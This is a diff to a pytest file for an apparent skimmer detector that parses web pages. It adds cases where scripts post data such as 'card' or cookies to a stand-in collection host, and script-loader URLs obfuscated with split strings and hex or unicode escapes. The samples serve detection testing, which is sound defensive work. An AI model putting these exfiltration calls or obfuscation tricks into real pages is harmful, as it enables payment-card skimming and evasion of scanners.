@@ -433,6 +433,15 @@ def test_a_links_handler_is_read_on_a_page_without_ping() -> None:
     ("import('https://collect.test/c')", T.SCRIPT),
     ("import {a} from 'https://collect.test/c'", T.SCRIPT),
     ("const w = new Worker('https://collect.test/c')", T.SCRIPT),
+    ("fetch(new Request('https://collect.test/c', {method: 'POST'}))", T.XMLHTTPREQUEST),
+    ("var m = 'POST'; x.open(m, 'https://collect.test/c', true)", T.XMLHTTPREQUEST),
+    ("x.open(cfg.method, 'https://collect.test/c')", T.XMLHTTPREQUEST),
+    ("jQuery.post('https://collect.test/c', 'set_cookie=1', function(){})", T.XMLHTTPREQUEST),
+    ("$.ajax('https://collect.test/c')", T.XMLHTTPREQUEST),
+    ("axios.post('https://collect.test/c', card)", T.XMLHTTPREQUEST),
+    ("$.getScript('https://collect.test/c')", T.SCRIPT),
+    ("import {" + ", ".join(f"name{i}" for i in range(40)) + "} from 'https://collect.test/c'",
+     T.SCRIPT),  # an import's names run far back from its address
 ])
 def test_a_call_that_requests_its_address_is_a_request(script: str, kind: T) -> None:
     """A skimmer sends what it reads out by `fetch`, a beacon or an XHR, to a host no
@@ -448,6 +457,11 @@ def test_a_call_that_requests_its_address_is_a_request(script: str, kind: T) -> 
     "s.src='https:/' + '/a.magsrv.com/x.js';",
     's.src="https://a.magsrv.com/x.js?a\\x3d1\\u0026b\\x3d2".split("?")[0];',
     's.src="https://a.magsrv.com/x.js?e=\\ud83d\\ude00\\ud83d";',  # a pair, a lone half
+    "s.src='https' + '://a.magsrv.com/x.js';",  # the scheme split from the rest
+    "s.src='htt' + 'ps://a.magsrv.com/x.js';",
+    "s.src='https://a.mag\\x73rv.com/x.js';",  # one letter of the host escaped
+    "s.src='\\x68ttps://a.magsrv.com/x.js';",
+    "s.src='https:\\u002F\\u002Fa.magsrv.com\\u002Fx.js';",  # a few escaped slashes
 ])
 def test_a_loader_written_as_scripts_escape_or_split_it_is_a_request(script: str) -> None:
     """PHP's json_encode writes every `/` as `\\/`, an injection splits a host into
@@ -456,6 +470,16 @@ def test_a_loader_written_as_scripts_escape_or_split_it_is_a_request(script: str
     ((url, kind, _),) = found(f"<script>{script}</script>")
     assert (url.split("?")[0], kind) == ("https://a.magsrv.com/x.js", T.SCRIPT)
     assert "\\" not in url
+
+
+def test_an_escaped_loader_is_found_once_with_the_decoder_reading_the_script_too() -> None:
+    """A script escaping many characters is read by the decoder as well: the URL its
+    literal names once its escapes are read is one request, not two."""
+    html = ("<script>var t='\\u00e9\\u00e9\\u00e9\\u00e9\\u00e9'; var s=document.createElement("
+            "'script'); s.src='https:\\u002F\\u002Fa.magsrv.com\\u002Fx.js';</script>")
+    page = parse_page(html)
+    assert [(f.url, f.via) for f in walk(page.root, BASE, page)] == [
+        ("https://a.magsrv.com/x.js", "inline-script")]
 
 
 @pytest.mark.parametrize(("html", "expected"), [
